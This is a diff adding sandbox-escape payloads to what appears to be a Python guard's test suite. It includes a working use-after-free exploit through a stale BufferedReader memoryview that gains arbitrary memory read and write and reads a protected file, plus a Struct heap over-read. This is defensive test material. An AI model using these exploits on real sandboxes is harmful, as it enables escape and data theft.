@@ -1030,6 +1030,80 @@ PAYLOADS = [
         def main():
             return str(getattr(dateutil, "__getattr__"))
         """, off={OK, EXCEPTION}),
+    # -- standard library: io and struct lend or free memory the code keeps --
+    # BufferedReader(raw) passes raw.readinto() a memoryview of its buffer
+    # with no owner: kept past the reader, it reads and writes what is
+    # allocated there next (a list's items: a fake bytearray over all
+    # memory), then the module slot of a proxy is the real module
+    Payload("io-bufferedreader-stale-view", """
+        import io
+        import json
+        import struct
+        class Raw(io.RawIOBase):
+            def __init__(self):
+                self.views = []
+            def readable(self):
+                return True
+            def readinto(self, b):
+                self.views.append(b)
+                return 0
+        def stale(n):
+            raw = Raw()
+            reader = io.BufferedReader(raw, n)
+            reader.read(1)
+            reader = None
+            return raw.views[0]
+        def main(canary_data):
+            real = json
+            if type(json).__name__ != "module":
+                marker = "marker"
+                kept = []
+                for attempt in range(1000):
+                    view = stale(200)
+                    victim = [marker] * 25
+                    words = view.cast("Q")
+                    if words[0] == id(marker):
+                        break
+                    kept.append((view, victim))
+                fake = struct.pack("<QQqqQQq", 1 << 20, id(bytearray), (1 << 63) - 1,
+                                   (1 << 63) - 1, 0, 0, 0)
+                words[0] = id(fake) + 32
+                mem = victim[0]
+                module = struct.unpack("<Q", bytes(mem[id(json) + 32:id(json) + 40]))[0]
+                refcnt = struct.unpack("<Q", bytes(mem[module:module + 8]))[0]
+                mem[module:module + 8] = struct.pack("<Q", refcnt + 100)
+                words[1] = module
+                real = victim[1]
+            return real.codecs.open(canary_data).read()
+        """, on={GUARD}, off={DENIED}),
+    # super().__init__(fmt) in a subclass re-initialises a Struct under its
+    # iter_unpack() iterator, which then reads the new format's size past
+    # its 8-byte buffer (heap pointers); with the Python layer off the
+    # process may read its own memory: OK
+    Payload("struct-reinit-iter-unpack-overread", """
+        import struct
+        class S(struct.Struct):
+            def again(self, fmt):
+                super().__init__(fmt)
+        def main():
+            s = S("8s")
+            it = s.iter_unpack(bytes(8))
+            s.again("4096s")
+            return next(it)[0][:64].hex()
+        """, on={GUARD}, off={OK}),
+    Payload("io-textiowrapper-over-a-buffer-of-the-code", """
+        import io
+        class Buf(io.BytesIO):
+            def read1(self, n=-1):
+                return b"x"
+        def main():
+            return io.TextIOWrapper(Buf(b"abc"), encoding="utf-8").read()
+        """, off={OK}),
+    Payload("io-textiowrapper-through-type", """
+        import io, sys
+        def main():
+            return str(type(sys.stdout)(io.BytesIO(b"x")))
+        """, on={GUARD, EXCEPTION}, off={OK, EXCEPTION}),
     Payload("format-method-in-fullwidth", """
         def main():
             f = "{0.__cl" + "ass__.__ba" + "se__}"
